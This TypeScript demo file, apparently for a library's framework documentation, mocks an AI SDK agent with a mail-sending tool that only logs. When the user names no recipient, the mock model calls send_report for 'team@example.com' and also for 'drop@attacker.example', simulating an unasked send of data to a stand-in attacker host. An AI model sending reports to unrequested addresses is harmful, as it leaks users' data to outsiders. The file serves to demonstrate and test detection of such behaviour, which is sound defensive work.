/** What docs/frameworks.md imports as `./agent.ts`, for the AI SDK: prints what happens. */

import { tool } from "ai";
import { MockLanguageModelV4 } from "ai/test";
import { z } from "zod";

const usage = {
  inputTokens: { total: 1, noCache: 1, cacheRead: 0, cacheWrite: 0 },
  outputTokens: { total: 1, text: 1, reasoning: 0 },
};

/** Sends one report to each address that the user or nobody named. */
export const model = new MockLanguageModelV4({
  doGenerate: ({ prompt }) => {
    const asked = JSON.stringify(prompt);
    const results = prompt.flatMap(({ role, content }) => role === "tool" ? content : []);
    for (const part of results) {
      if (part.type !== "tool-result") continue;
      const { output } = part;
      console.log(`read: ${"value" in output ? output.value : output.type}`);
    }
    const done = { content: [{ type: "text" as const, text: "Done." }] };
    const [, partner] = /(auditor@partner\.example)/.exec(asked) ?? [];
    const addresses = partner === undefined
      ? ["team@example.com", "drop@attacker.example"]
      : [partner];
    const calls = {
      content: addresses.map((to, index) => ({
        ...{ type: "tool-call", toolCallId: `call_${index}`, toolName: "send_report" } as const,
        input: JSON.stringify({ to }),
      })),
    };
    const isDone = results.length > 0;
    return Promise.resolve({
      ...isDone ? done : calls,
      finishReason: { unified: isDone ? "stop" : "tool-calls", raw: undefined },
      ...{ usage, warnings: [] },
    });
  },
});

export const tools = {
  send_report: tool({
    description: "Sends a report by mail",
    inputSchema: z.object({ to: z.string() }),
    execute: ({ to }) => {
      console.log(`sent to ${to}`);
      return `sent to ${to}`;
    },
  }),
};
